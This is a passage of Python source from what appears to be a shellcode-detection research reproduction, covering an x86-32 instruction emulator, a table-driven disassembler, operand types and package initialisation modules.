            if self._cond(m):
                self.eip = self._branch_target(ins)
            return
        if m in ("loop", "loope", "loopne"):
            self.regs["ecx"] = (self.regs["ecx"] - 1) & _U32
            take = self.regs["ecx"] != 0
            if m == "loope":
                take = take and self.flags["zf"]
            elif m == "loopne":
                take = take and not self.flags["zf"]
            if take:
                self.eip = self._branch_target(ins)
            return
        if m == "jecxz":
            if self.regs["ecx"] == 0:
                self.eip = self._branch_target(ins)
            return
        if m == "call":
            self.push(self.eip)  # eip already points past the call
            self.eip = self._branch_target(ins)
            return
        if m in ("ret", "retn"):
            self.eip = self.pop()
            if m == "retn":
                self.regs["esp"] = (self.regs["esp"] + ins.operands[0].unsigned) & _U32
            return
        if m == "int" or m == "int3":
            vector = ops[0].unsigned if ops else 3
            self.syscalls.append(Syscall(vector=vector, eip=self.eip,
                                         regs=dict(self.regs)))
            if self.stop_on_interrupt:
                self.halted = True
            else:
                self.regs["eax"] = 0
            return
        if m == "hlt":
            self.halted = True
            return

        if m in ("stosb", "stosd", "lodsb", "lodsd", "movsb", "movsd",
                 "scasb", "scasd", "cmpsb", "cmpsd"):
            self._string_op(m)
            return
        if m.startswith(("rep ", "repe ", "repne ")):
            prefix, _, base = m.partition(" ")
            iterations = 0
            while self.regs["ecx"] != 0:
                self._string_op(base)
                self.regs["ecx"] = (self.regs["ecx"] - 1) & _U32
                iterations += 1
                if base.startswith(("scas", "cmps")):
                    if prefix in ("rep", "repe") and not self.flags["zf"]:
                        break
                    if prefix == "repne" and self.flags["zf"]:
                        break
                if iterations > self.step_limit:
                    raise EmulationError("rep iteration limit exceeded")
            return
        if m.startswith("set"):
            self.write_op(ops[0], 1 if self._cond("j" + m[3:]) else 0)
            return

        raise EmulationError(f"unsupported instruction: {ins}")

    # -- helpers --------------------------------------------------------------

    def set_reg_family_low(self, family: str, value: int) -> None:
        self.regs[family] = (self.regs[family] & ~0xFF) | (value & 0xFF)

    def _branch_target(self, ins: Instruction) -> int:
        op = ins.operands[0]
        if isinstance(op, Imm):
            return op.unsigned
        return self.read_op(op) & _U32

    def _shift(self, m: str, ops) -> None:
        size = self._size_of(ops[0])
        bits = size * 8
        mask = (1 << bits) - 1
        count = self.read_op(ops[1]) & 31
        value = self.read_op(ops[0]) & mask
        if count == 0:
            return
        if m in ("shl", "sal"):
            result = (value << count) & mask
            self.flags["cf"] = bool((value << count) & (1 << bits))
        elif m == "shr":
            result = value >> count
            self.flags["cf"] = bool((value >> (count - 1)) & 1)
        elif m == "sar":
            signed = value - (1 << bits) if value & (1 << (bits - 1)) else value
            result = (signed >> count) & mask
            self.flags["cf"] = bool((signed >> (count - 1)) & 1)
        elif m == "rol":
            c = count % bits
            result = ((value << c) | (value >> (bits - c))) & mask if c else value
            self.flags["cf"] = bool(result & 1)
        elif m == "ror":
            c = count % bits
            result = ((value >> c) | (value << (bits - c))) & mask if c else value
            self.flags["cf"] = bool(result >> (bits - 1))
        elif m == "rcl":
            c = count % (bits + 1)
            wide = (value | (int(self.flags["cf"]) << bits))
            wide = ((wide << c) | (wide >> (bits + 1 - c))) & ((1 << (bits + 1)) - 1)
            result = wide & mask
            self.flags["cf"] = bool(wide >> bits)
        else:  # rcr
            c = count % (bits + 1)
            wide = (value | (int(self.flags["cf"]) << bits))
            wide = ((wide >> c) | (wide << (bits + 1 - c))) & ((1 << (bits + 1)) - 1)
            result = wide & mask
            self.flags["cf"] = bool(wide >> bits)
        self.flags["zf"] = result == 0
        self.flags["sf"] = bool(result & (1 << (bits - 1)))
        self.flags["pf"] = _parity(result)
        self.write_op(ops[0], result)

    def _muldiv(self, m: str, ops) -> None:
        if m == "imul" and len(ops) >= 2:
            if len(ops) == 2:
                a, b = self.read_op(ops[0]), self.read_op(ops[1])
            else:
                a, b = self.read_op(ops[1]), self.read_op(ops[2])
            self.write_op(ops[0], (a * b) & _U32)
            return
        size = self._size_of(ops[0])
        src = self.read_op(ops[0])
        if m in ("mul", "imul"):
            if size == 1:
                product = (self.regs["eax"] & 0xFF) * src
                self.regs["eax"] = (self.regs["eax"] & ~0xFFFF) | (product & 0xFFFF)
            else:
                product = (self.regs["eax"] & _U32) * src
                self.regs["eax"] = product & _U32
                self.regs["edx"] = (product >> 32) & _U32
            self.flags["cf"] = self.flags["of"] = product >> (size * 8) != 0
            return
        # div/idiv (unsigned path is all shellcode uses)
        if src == 0:
            raise EmulationError("division by zero")
        if size == 1:
            dividend = self.regs["eax"] & 0xFFFF
            quotient, remainder = divmod(dividend, src)
            self.regs["eax"] = ((remainder & 0xFF) << 8) | (quotient & 0xFF) | (
                self.regs["eax"] & ~0xFFFF)
        else:
            dividend = ((self.regs["edx"] & _U32) << 32) | (self.regs["eax"] & _U32)
            quotient, remainder = divmod(dividend, src)
            if quotient > _U32:
                raise EmulationError("divide overflow")
            self.regs["eax"] = quotient & _U32
            self.regs["edx"] = remainder & _U32

    def _string_op(self, m: str) -> None:
        size = 1 if m.endswith("b") else 4
        step = -size if self.flags["df"] else size
        if m.startswith("stos"):
            self.mem.write_u(self.regs["edi"], self.regs["eax"], size)
            self.mem_writes += 1
            self.regs["edi"] = (self.regs["edi"] + step) & _U32
        elif m.startswith("lods"):
            value = self.mem.read_u(self.regs["esi"], size)
            if size == 1:
                self.set_reg_family_low("eax", value)
            else:
                self.regs["eax"] = value
            self.regs["esi"] = (self.regs["esi"] + step) & _U32
        elif m.startswith("movs"):
            value = self.mem.read_u(self.regs["esi"], size)
            self.mem.write_u(self.regs["edi"], value, size)
            self.mem_writes += 1
            self.regs["esi"] = (self.regs["esi"] + step) & _U32
            self.regs["edi"] = (self.regs["edi"] + step) & _U32
        elif m.startswith("scas"):
            value = self.mem.read_u(self.regs["edi"], size)
            self._set_sub_flags(self.regs["eax"], value, 0, size)
            self.regs["edi"] = (self.regs["edi"] + step) & _U32
        else:  # cmps
            a = self.mem.read_u(self.regs["esi"], size)
            b = self.mem.read_u(self.regs["edi"], size)
            self._set_sub_flags(a, b, 0, size)
            self.regs["esi"] = (self.regs["esi"] + step) & _U32
            self.regs["edi"] = (self.regs["edi"] + step) & _U32

    def _eflags_word(self) -> int:
        f = self.flags
        return (int(f["cf"]) | (int(f["pf"]) << 2) | (int(f["af"]) << 4)
                | (int(f["zf"]) << 6) | (int(f["sf"]) << 7)
                | (int(f["df"]) << 10) | (int(f["of"]) << 11) | 0x2)

    def _set_eflags_word(self, word: int) -> None:
        self.flags["cf"] = bool(word & 1)
        self.flags["pf"] = bool(word & 4)
        self.flags["af"] = bool(word & 16)
        self.flags["zf"] = bool(word & 64)
        self.flags["sf"] = bool(word & 128)
        self.flags["df"] = bool(word & 1024)
        self.flags["of"] = bool(word & 2048)

"""x86-32 disassembler (the IDA Pro substitute in our pipeline).

Linear-sweep decoder for the instruction space shellcode lives in: the full
one-byte ALU/data-movement map, the shift/unary groups, string operations,
control flow including short/near branches and loops, ``int``, and the
two-byte ``0F`` subset (near jcc, setcc, movzx/movsx, imul, bswap).

Decoding is *strict*: unknown opcodes raise :class:`DisassemblerError` with
the failing offset.  The extraction stage relies on this to reject frames
that merely look like code, and the tolerant helper
:func:`disassemble_frame` turns errors into truncated listings the way a
real IDS treats trailing garbage.
"""

from __future__ import annotations

from .errors import DisassemblerError
from .instruction import Instruction
from .operands import Imm, Mem, Operand
from .registers import Register, reg_by_code

__all__ = ["Disassembler", "disassemble", "disassemble_frame"]

_GROUP1 = ["add", "or", "adc", "sbb", "and", "sub", "xor", "cmp"]
_SHIFT = ["rol", "ror", "rcl", "rcr", "shl", "shr", "sal", "sar"]
_COND = ["jo", "jno", "jb", "jae", "je", "jne", "jbe", "ja",
         "js", "jns", "jp", "jnp", "jl", "jge", "jle", "jg"]

_PREFIXES = {0x26, 0x2E, 0x36, 0x3E, 0x64, 0x65, 0xF0, 0xF2, 0xF3}
_OPSIZE_PREFIX = 0x66
_STRING_OPS = {"movsb", "movsd", "cmpsb", "cmpsd", "stosb", "stosd",
               "lodsb", "lodsd", "scasb", "scasd"}

_SIMPLE = {
    0x27: "daa", 0x2F: "das", 0x37: "aaa", 0x3F: "aas",
    0x60: "pushad", 0x61: "popad",
    0x90: "nop", 0x98: "cwde", 0x99: "cdq",
    0x9C: "pushfd", 0x9D: "popfd", 0x9E: "sahf", 0x9F: "lahf",
    0xA4: "movsb", 0xA5: "movsd", 0xA6: "cmpsb", 0xA7: "cmpsd",
    0xAA: "stosb", 0xAB: "stosd", 0xAC: "lodsb", 0xAD: "lodsd",
    0xAE: "scasb", 0xAF: "scasd",
    0xC3: "ret", 0xC9: "leave", 0xCC: "int3",
    0xD6: "salc", 0xD7: "xlatb",
    0xF4: "hlt", 0xF5: "cmc", 0xF8: "clc", 0xF9: "stc",
    0xFA: "cli", 0xFB: "sti", 0xFC: "cld", 0xFD: "std",
}


class _Cursor:
    """A byte cursor that raises :class:`DisassemblerError` on underrun."""

    def __init__(self, data: bytes, offset: int) -> None:
        self.data = data
        self.pos = offset
        self.start = offset

    def u8(self) -> int:
        if self.pos >= len(self.data):
            raise DisassemblerError("unexpected end of code", self.start)
        value = self.data[self.pos]
        self.pos += 1
        return value

    def bytes(self, n: int) -> bytes:
        if self.pos + n > len(self.data):
            raise DisassemblerError("unexpected end of code", self.start)
        chunk = self.data[self.pos : self.pos + n]
        self.pos += n
        return chunk

    def imm(self, size: int, signed: bool = True) -> int:
        raw = self.bytes(size)
        return int.from_bytes(raw, "little", signed=signed)


class Disassembler:
    """Decodes instructions at successive offsets of a byte buffer."""

    def decode_one(self, data: bytes, offset: int, address: int) -> Instruction:
        """Decode a single instruction starting at ``offset``.

        ``address`` is the virtual address assigned to the instruction (so
        branch targets come out absolute).
        """
        cur = _Cursor(data, offset)
        opsize = 4
        rep: str | None = None
        opcode = cur.u8()
        while opcode in _PREFIXES:
            if opcode == 0xF3:
                rep = "rep"
            elif opcode == 0xF2:
                rep = "repne"
            opcode = cur.u8()
        if opcode == _OPSIZE_PREFIX:
            opsize = 2
            opcode = cur.u8()
            while opcode in _PREFIXES:
                if opcode == 0xF3:
                    rep = "rep"
                elif opcode == 0xF2:
                    rep = "repne"
                opcode = cur.u8()
        ins = self._decode(cur, opcode, opsize, address)
        if rep is not None and ins.mnemonic in _STRING_OPS:
            # repe and rep share 0xF3; cmps/scas use the conditional forms.
            if ins.mnemonic.startswith(("cmps", "scas")):
                prefix = "repe" if rep == "rep" else "repne"
            else:
                prefix = "rep"
            ins.mnemonic = f"{prefix} {ins.mnemonic}"
        ins.address = address
        ins.raw = bytes(data[offset : cur.pos])
        return ins

    # -- ModRM ---------------------------------------------------------------

    def _modrm(self, cur: _Cursor, size: int) -> tuple[int, Operand]:
        """Decode a ModRM byte; returns (reg field, r/m operand)."""
        byte = cur.u8()
        mod, regbits, rm = byte >> 6, (byte >> 3) & 7, byte & 7
        if mod == 3:
            return regbits, reg_by_code(rm, size)
        base: Register | None = None
        index: Register | None = None
        scale = 1
        if rm == 4:  # SIB follows
            sib = cur.u8()
            scale = 1 << (sib >> 6)
            index_bits = (sib >> 3) & 7
            base_bits = sib & 7
            if index_bits != 4:
                index = reg_by_code(index_bits, 4)
            if base_bits == 5 and mod == 0:
                base = None
                disp = cur.imm(4)
                return regbits, Mem(size=size, base=base, index=index,
                                    scale=scale, disp=disp)
            base = reg_by_code(base_bits, 4)
        elif rm == 5 and mod == 0:
            disp = cur.imm(4)
            return regbits, Mem(size=size, disp=disp)
        else:
            base = reg_by_code(rm, 4)
        if mod == 1:
            disp = cur.imm(1)
        elif mod == 2:
            disp = cur.imm(4)
        else:
            disp = 0
        return regbits, Mem(size=size, base=base, index=index, scale=scale,
                            disp=disp)

    # -- main decode dispatch --------------------------------------------------

    def _decode(self, cur: _Cursor, opcode: int, opsize: int, address: int) -> Instruction:
        """Dispatch through the precomputed 256-entry handler table (built
        once at import): one list index replaces the historical if/elif
        chain, which cost up to ~40 comparisons per instruction."""
        handler = _ONE_BYTE[opcode]
        if handler is None:
            raise DisassemblerError(f"unknown opcode {opcode:#04x}", cur.start)
        return handler(self, cur, opcode, opsize, address)

    def _alu(self, cur: _Cursor, mnem: str, form: int, opsize: int) -> Instruction:
        if form == 0:
            regbits, rm = self._modrm(cur, 1)
            return Instruction(mnem, (rm, reg_by_code(regbits, 1)))
        if form == 1:
            regbits, rm = self._modrm(cur, opsize)
            return Instruction(mnem, (rm, reg_by_code(regbits, opsize)))
        if form == 2:
            regbits, rm = self._modrm(cur, 1)
            return Instruction(mnem, (reg_by_code(regbits, 1), rm))
        if form == 3:
            regbits, rm = self._modrm(cur, opsize)
            return Instruction(mnem, (reg_by_code(regbits, opsize), rm))
        if form == 4:
            return Instruction(mnem, (reg_by_code(0, 1), Imm(cur.imm(1), 1)))
        return Instruction(mnem, (reg_by_code(0, opsize), Imm(cur.imm(opsize), opsize)))

    def _decode_0f(self, cur: _Cursor, opsize: int, address: int) -> Instruction:
        sub = cur.u8()
        handler = _TWO_BYTE[sub]
        if handler is None:
            raise DisassemblerError(f"unknown opcode 0f {sub:#04x}", cur.start)
        return handler(self, cur, sub, opsize, address)

    # -- sweeps ---------------------------------------------------------------

    def linear(self, data: bytes, base: int = 0) -> list[Instruction]:
        """Strict linear sweep: decode until the buffer ends; any undecodable
        byte raises."""
        out: list[Instruction] = []
        offset = 0
        while offset < len(data):
            ins = self.decode_one(data, offset, base + offset)
            out.append(ins)
            offset += ins.size
        return out


# -- opcode handlers ----------------------------------------------------------
#
# Every handler shares the signature ``(dis, cur, opcode, opsize, address)``
# so dispatch is a single list index into the 256-entry tables built below.
# Handlers for an opcode *family* recover the variant from ``opcode`` itself
# (direction bit, register number, immediate width), exactly as the old
# branch bodies did.

_GROUP5 = {0: "inc", 1: "dec", 2: "call", 4: "jmp", 6: "push"}


def _op_simple(dis, cur, opcode, opsize, address):
    return Instruction(_SIMPLE[opcode])


def _op_alu(dis, cur, opcode, opsize, address):
    return dis._alu(cur, _GROUP1[opcode >> 3], opcode & 7, opsize)


def _op_inc_reg(dis, cur, opcode, opsize, address):
    return Instruction("inc", (reg_by_code(opcode - 0x40, 4),))


def _op_dec_reg(dis, cur, opcode, opsize, address):
    return Instruction("dec", (reg_by_code(opcode - 0x48, 4),))


def _op_push_reg(dis, cur, opcode, opsize, address):
    return Instruction("push", (reg_by_code(opcode - 0x50, 4),))


def _op_pop_reg(dis, cur, opcode, opsize, address):
    return Instruction("pop", (reg_by_code(opcode - 0x58, 4),))


def _op_push_imm32(dis, cur, opcode, opsize, address):
    return Instruction("push", (Imm(cur.imm(4), 4),))


def _op_push_imm8(dis, cur, opcode, opsize, address):
    return Instruction("push", (Imm(cur.imm(1), 1),))


def _op_imul_imm(dis, cur, opcode, opsize, address):
    isize = opsize if opcode == 0x69 else 1
    regbits, rm = dis._modrm(cur, opsize)
    return Instruction("imul", (reg_by_code(regbits, opsize), rm,
                                Imm(cur.imm(isize), isize)))


def _op_jcc_short(dis, cur, opcode, opsize, address):
    rel = cur.imm(1)
    return Instruction(_COND[opcode - 0x70],
                       (Imm(address + (cur.pos - cur.start) + rel, 4),))


def _op_group1_imm8(dis, cur, opcode, opsize, address):
    regbits, rm = dis._modrm(cur, 1)
    return Instruction(_GROUP1[regbits], (rm, Imm(cur.imm(1), 1)))


def _op_group1_imm(dis, cur, opcode, opsize, address):
    regbits, rm = dis._modrm(cur, opsize)
    return Instruction(_GROUP1[regbits], (rm, Imm(cur.imm(opsize), opsize)))


def _op_group1_imm8_ext(dis, cur, opcode, opsize, address):
    # 0x83: sign-extended imm8 against an opsize operand.
    regbits, rm = dis._modrm(cur, opsize)
    return Instruction(_GROUP1[regbits], (rm, Imm(cur.imm(1), opsize)))


def _op_test_rm(dis, cur, opcode, opsize, address):
    size = 1 if opcode == 0x84 else opsize
    regbits, rm = dis._modrm(cur, size)
    return Instruction("test", (rm, reg_by_code(regbits, size)))


def _op_xchg_rm(dis, cur, opcode, opsize, address):
    size = 1 if opcode == 0x86 else opsize
    regbits, rm = dis._modrm(cur, size)
    return Instruction("xchg", (rm, reg_by_code(regbits, size)))


def _op_mov_rm(dis, cur, opcode, opsize, address):
    size = 1 if opcode in (0x88, 0x8A) else opsize
    regbits, rm = dis._modrm(cur, size)
    r = reg_by_code(regbits, size)
    if opcode in (0x88, 0x89):
        return Instruction("mov", (rm, r))
    return Instruction("mov", (r, rm))


def _op_lea(dis, cur, opcode, opsize, address):
    regbits, rm = dis._modrm(cur, opsize)
    if not isinstance(rm, Mem):
        raise DisassemblerError("lea with register source", cur.start)
    return Instruction("lea", (reg_by_code(regbits, opsize), rm))


def _op_pop_rm(dis, cur, opcode, opsize, address):
    regbits, rm = dis._modrm(cur, opsize)
    if regbits != 0:
        raise DisassemblerError(f"bad 8F /{regbits}", cur.start)
    return Instruction("pop", (rm,))


def _op_xchg_eax(dis, cur, opcode, opsize, address):
    return Instruction("xchg", (reg_by_code(0, opsize),
                                reg_by_code(opcode - 0x90, opsize)))


def _op_moffs(dis, cur, opcode, opsize, address):
    size = 1 if opcode in (0xA0, 0xA2) else opsize
    mem = Mem(size=size, disp=cur.imm(4))
    acc = reg_by_code(0, size)
    if opcode in (0xA0, 0xA1):
        return Instruction("mov", (acc, mem))
    return Instruction("mov", (mem, acc))


def _op_test_acc_imm(dis, cur, opcode, opsize, address):
    size = 1 if opcode == 0xA8 else opsize
    return Instruction("test", (reg_by_code(0, size),
                                Imm(cur.imm(size), size)))


def _op_mov_r8_imm(dis, cur, opcode, opsize, address):
    return Instruction("mov", (reg_by_code(opcode - 0xB0, 1),
                               Imm(cur.imm(1), 1)))


def _op_mov_r32_imm(dis, cur, opcode, opsize, address):
    return Instruction("mov", (reg_by_code(opcode - 0xB8, opsize),
                               Imm(cur.imm(opsize), opsize)))


def _op_shift_imm(dis, cur, opcode, opsize, address):
    size = 1 if opcode == 0xC0 else opsize
    regbits, rm = dis._modrm(cur, size)
    if regbits == 6:
        raise DisassemblerError("invalid shift group /6", cur.start)
    return Instruction(_SHIFT[regbits], (rm, Imm(cur.imm(1, signed=False), 1)))


def _op_retn(dis, cur, opcode, opsize, address):
    return Instruction("retn", (Imm(cur.imm(2, signed=False), 2),))


def _op_mov_rm_imm(dis, cur, opcode, opsize, address):
    size = 1 if opcode == 0xC6 else opsize
    regbits, rm = dis._modrm(cur, size)
    if regbits != 0:
        raise DisassemblerError(f"bad C6/C7 /{regbits}", cur.start)
    return Instruction("mov", (rm, Imm(cur.imm(size), size)))


def _op_int(dis, cur, opcode, opsize, address):
    return Instruction("int", (Imm(cur.imm(1, signed=False), 1),))


def _op_shift_1cl(dis, cur, opcode, opsize, address):
    size = 1 if opcode in (0xD0, 0xD2) else opsize
    regbits, rm = dis._modrm(cur, size)
    if regbits == 6:
        raise DisassemblerError("invalid shift group /6", cur.start)
    count: Operand = Imm(1, 1) if opcode in (0xD0, 0xD1) else reg_by_code(1, 1)
    return Instruction(_SHIFT[regbits], (rm, count))


def _op_loop(dis, cur, opcode, opsize, address):
    mnem = ["loopne", "loope", "loop", "jecxz"][opcode - 0xE0]
    rel = cur.imm(1)
    return Instruction(mnem, (Imm(address + (cur.pos - cur.start) + rel, 4),))


def _op_call_rel32(dis, cur, opcode, opsize, address):
    rel = cur.imm(4)
    return Instruction("call", (Imm(address + (cur.pos - cur.start) + rel, 4),))


def _op_jmp_rel32(dis, cur, opcode, opsize, address):
    rel = cur.imm(4)
    return Instruction("jmp", (Imm(address + (cur.pos - cur.start) + rel, 4),))


def _op_jmp_rel8(dis, cur, opcode, opsize, address):
    rel = cur.imm(1)
    return Instruction("jmp", (Imm(address + (cur.pos - cur.start) + rel, 4),))


def _op_group3(dis, cur, opcode, opsize, address):
    size = 1 if opcode == 0xF6 else opsize
    regbits, rm = dis._modrm(cur, size)
    if regbits == 0 or regbits == 1:
        return Instruction("test", (rm, Imm(cur.imm(size), size)))
    mnem = [None, None, "not", "neg", "mul", "imul", "div", "idiv"][regbits]
    return Instruction(mnem, (rm,))


def _op_incdec_rm8(dis, cur, opcode, opsize, address):
    regbits, rm = dis._modrm(cur, 1)
    if regbits == 0:
        return Instruction("inc", (rm,))
    if regbits == 1:
        return Instruction("dec", (rm,))
    raise DisassemblerError(f"bad FE /{regbits}", cur.start)


def _op_group5(dis, cur, opcode, opsize, address):
    regbits, rm = dis._modrm(cur, opsize)
    mnem = _GROUP5.get(regbits)
    if mnem is None:
        raise DisassemblerError(f"bad FF /{regbits}", cur.start)
    return Instruction(mnem, (rm,))


def _op_escape_0f(dis, cur, opcode, opsize, address):
    return dis._decode_0f(cur, opsize, address)


def _op0f_jcc_near(dis, cur, sub, opsize, address):
    rel = cur.imm(4)
    return Instruction(_COND[sub - 0x80],
                       (Imm(address + (cur.pos - cur.start) + rel, 4),))


def _op0f_setcc(dis, cur, sub, opsize, address):
    regbits, rm = dis._modrm(cur, 1)
    return Instruction("set" + _COND[sub - 0x90][1:], (rm,))


def _op0f_imul(dis, cur, sub, opsize, address):
    regbits, rm = dis._modrm(cur, opsize)
    return Instruction("imul", (reg_by_code(regbits, opsize), rm))


def _op0f_movzx(dis, cur, sub, opsize, address):
    src_size = 1 if sub == 0xB6 else 2
    regbits, rm = dis._modrm(cur, src_size)
    return Instruction("movzx", (reg_by_code(regbits, 4), rm))


def _op0f_movsx(dis, cur, sub, opsize, address):
    src_size = 1 if sub == 0xBE else 2
    regbits, rm = dis._modrm(cur, src_size)
    return Instruction("movsx", (reg_by_code(regbits, 4), rm))


def _op0f_bswap(dis, cur, sub, opsize, address):
    return Instruction("bswap", (reg_by_code(sub - 0xC8, 4),))


def _build_tables() -> tuple[list, list]:
    """Populate the one-byte and ``0F`` dispatch tables (import time only)."""
    one: list = [None] * 256
    # ALU block 0x00-0x3D: forms 0-5 of the eight group-1 operations.
    for opcode in range(0x40):
        if (opcode & 7) <= 5:
            one[opcode] = _op_alu
    for opcode in range(0x40, 0x48):
        one[opcode] = _op_inc_reg
    for opcode in range(0x48, 0x50):
        one[opcode] = _op_dec_reg
    for opcode in range(0x50, 0x58):
        one[opcode] = _op_push_reg
    for opcode in range(0x58, 0x60):
        one[opcode] = _op_pop_reg
    one[0x68] = _op_push_imm32
    one[0x69] = _op_imul_imm
    one[0x6A] = _op_push_imm8
    one[0x6B] = _op_imul_imm
    for opcode in range(0x70, 0x80):
        one[opcode] = _op_jcc_short
    one[0x80] = one[0x82] = _op_group1_imm8
    one[0x81] = _op_group1_imm
    one[0x83] = _op_group1_imm8_ext
    one[0x84] = one[0x85] = _op_test_rm
    one[0x86] = one[0x87] = _op_xchg_rm
    for opcode in range(0x88, 0x8C):
        one[opcode] = _op_mov_rm
    one[0x8D] = _op_lea
    one[0x8F] = _op_pop_rm
    for opcode in range(0x91, 0x98):
        one[opcode] = _op_xchg_eax
    for opcode in range(0xA0, 0xA4):
        one[opcode] = _op_moffs
    one[0xA8] = one[0xA9] = _op_test_acc_imm
    for opcode in range(0xB0, 0xB8):
        one[opcode] = _op_mov_r8_imm
    for opcode in range(0xB8, 0xC0):
        one[opcode] = _op_mov_r32_imm
    one[0xC0] = one[0xC1] = _op_shift_imm
    one[0xC2] = _op_retn
    one[0xC6] = one[0xC7] = _op_mov_rm_imm
    one[0xCD] = _op_int
    for opcode in range(0xD0, 0xD4):
        one[opcode] = _op_shift_1cl
    for opcode in range(0xE0, 0xE4):
        one[opcode] = _op_loop
    one[0xE8] = _op_call_rel32
    one[0xE9] = _op_jmp_rel32
    one[0xEB] = _op_jmp_rel8
    one[0xF6] = one[0xF7] = _op_group3
    one[0xFE] = _op_incdec_rm8
    one[0xFF] = _op_group5
    one[0x0F] = _op_escape_0f
    # Single-mnemonic opcodes last: they must win any overlap, matching
    # the old chain where the _SIMPLE lookup ran first.
    for opcode in _SIMPLE:
        one[opcode] = _op_simple

    two: list = [None] * 256
    for sub in range(0x80, 0x90):
        two[sub] = _op0f_jcc_near
    for sub in range(0x90, 0xA0):
        two[sub] = _op0f_setcc
    two[0xAF] = _op0f_imul
    two[0xB6] = two[0xB7] = _op0f_movzx
    two[0xBE] = two[0xBF] = _op0f_movsx
    for sub in range(0xC8, 0xD0):
        two[sub] = _op0f_bswap
    return one, two


_ONE_BYTE, _TWO_BYTE = _build_tables()

_DEFAULT = Disassembler()


def disassemble(data: bytes, base: int = 0) -> list[Instruction]:
    """Strict linear-sweep disassembly of a complete code buffer."""
    return _DEFAULT.linear(data, base)


def disassemble_frame(
    data: bytes, base: int = 0, limit: int | None = None, tick=None
) -> tuple[list[Instruction], int]:
    """Tolerant sweep for extracted network frames.

    Decodes as far as possible and returns ``(instructions,
    bytes_consumed)``; trailing undecodable bytes (padding, return-address
    blocks) are simply not decoded.  This mirrors how the paper's pipeline
    prunes "excess code from the program frame".  ``limit`` caps the number
    of instructions decoded (used by windowed whole-binary scanning).

    ``tick`` is the cooperative deadline hook (one call per decoded
    instruction); whatever it raises — in the pipeline,
    :class:`repro.errors.DeadlineExceeded` — propagates to the caller,
    which is how a payload crafted to decode into an enormous instruction
    stream gets cut off mid-sweep.
    """
    out: list[Instruction] = []
    offset = 0
    while offset < len(data):
        if limit is not None and len(out) >= limit:
            break
        try:
            ins = _DEFAULT.decode_one(data, offset, base + offset)
        except DisassemblerError:
            break
        if tick is not None:
            tick()
        out.append(ins)
        offset += ins.size
    return out, offset

"""Operand types for x86 instructions: registers, immediates, memory.

Memory operands carry an access *size* (1/2/4 bytes) because semantics
depend on it — ``xor byte ptr [eax], 0x95`` and ``xor dword ptr [eax],
0x95`` are different behaviours and the templates distinguish them.
"""

from __future__ import annotations

from dataclasses import dataclass

from .registers import Register

__all__ = ["Imm", "Mem", "Operand", "fmt_imm"]


def _signed(value: int, size: int) -> int:
    bits = size * 8
    value &= (1 << bits) - 1
    if value >= 1 << (bits - 1):
        value -= 1 << bits
    return value


def fmt_imm(value: int) -> str:
    """Render an immediate the way shellcode listings usually do."""
    if -9 < value < 10:
        return str(value)
    if value < 0:
        return f"-{-value:#x}"
    return f"{value:#x}"


@dataclass(frozen=True)
class Imm:
    """An immediate constant.  ``size`` is the encoded width in bytes."""

    value: int
    size: int = 4

    def __post_init__(self) -> None:
        bits = self.size * 8
        lo, hi = -(1 << (bits - 1)), (1 << bits)
        if not lo <= self.value < hi:
            raise ValueError(f"immediate {self.value:#x} does not fit in {bits} bits")

    @property
    def unsigned(self) -> int:
        return self.value & ((1 << (self.size * 8)) - 1)

    @property
    def signed(self) -> int:
        return _signed(self.value, self.size)

    def __str__(self) -> str:
        return fmt_imm(self.value)


@dataclass(frozen=True)
class Mem:
    """A memory operand: ``[base + index*scale + disp]`` with access size."""

    size: int = 4
    base: Register | None = None
    index: Register | None = None
    scale: int = 1
    disp: int = 0

    def __post_init__(self) -> None:
        if self.scale not in (1, 2, 4, 8):
            raise ValueError(f"invalid SIB scale: {self.scale}")
        if self.size not in (1, 2, 4):
            raise ValueError(f"invalid memory access size: {self.size}")
        if self.index is not None and self.index.name == "esp":
            raise ValueError("esp cannot be an index register")

    @property
    def size_name(self) -> str:
        return {1: "byte", 2: "word", 4: "dword"}[self.size]

    def registers(self) -> tuple[Register, ...]:
        """Registers read when computing the effective address."""
        out = []
        if self.base is not None:
            out.append(self.base)
        if self.index is not None:
            out.append(self.index)
        return tuple(out)

    def __str__(self) -> str:
        parts = []
        if self.base is not None:
            parts.append(self.base.name)
        if self.index is not None:
            term = self.index.name
            if self.scale != 1:
                term += f"*{self.scale}"
            parts.append(term)
        if self.disp or not parts:
            if parts and self.disp < 0:
                parts.append(f"- {fmt_imm(-self.disp)}")
            elif parts:
                parts.append(f"+ {fmt_imm(self.disp)}")
            else:
                parts.append(fmt_imm(self.disp & 0xFFFFFFFF))
        inner = " ".join(parts).replace(" - ", " - ").replace(" + ", " + ")
        # join with plus signs where no sign present
        expr = parts[0]
        for p in parts[1:]:
            expr += f" {p}" if p.startswith(("+", "-")) else f" + {p}"
        return f"{self.size_name} ptr [{expr}]"


Operand = Register | Imm | Mem

"""x86-32 toolchain: registers, operands, assembler, disassembler.

This package is the reproduction's substitute for the commercial IDA Pro
disassembler used in the paper, plus the assembler the attack engines need
to generate fresh polymorphic instances.
"""

from .errors import AssemblerError, DisassemblerError, X86Error
from .instruction import Instruction, format_listing
from .operands import Imm, Mem, Operand
from .registers import (
    EAX, EBP, EBX, ECX, EDI, EDX, ESI, ESP, GPR32, Register, reg,
)
from .asm import Assembler, assemble, encode_instruction
from .disasm import Disassembler, disassemble, disassemble_frame
from .emulator import EmulationError, Emulator, Syscall

__all__ = [
    "AssemblerError", "DisassemblerError", "X86Error",
    "Instruction", "format_listing",
    "Imm", "Mem", "Operand",
    "Register", "reg", "GPR32",
    "EAX", "ECX", "EDX", "EBX", "ESP", "EBP", "ESI", "EDI",
    "Assembler", "assemble", "encode_instruction",
    "Disassembler", "disassemble", "disassemble_frame",
    "EmulationError", "Emulator", "Syscall",
]

"""Declarative scenario engine: YAML in, reproducible experiment out.

One scenario file composes benign traffic mixes, attack campaigns,
evasion and chaos schedules, an analysis engine, and expected-alert
assertions — behind a single master seed, so the same YAML and seed
reproduce a byte-identical alert stream (see docs/scenarios.md for the
DSL reference and the determinism contract).
"""

from .schema import (
    CAMPAIGN_ENGINES, CHAOS_KINDS, ENGINE_KINDS, SCHEMA, Bound,
    CampaignSpec, ChaosSpec, EngineSpec, EvasionSpec, ExpectSpec,
    ScenarioError, ScenarioSpec, SchemaKey, TrafficSpec, schema_keys,
    validate,
)
from .loader import load_scenario, loads
from .runner import (
    RESULT_SCHEMA, CheckResult, ScenarioResult, build_trace, derive_seed,
    render_alert_stream, run_scenario,
)

__all__ = [
    "CAMPAIGN_ENGINES", "CHAOS_KINDS", "ENGINE_KINDS", "SCHEMA",
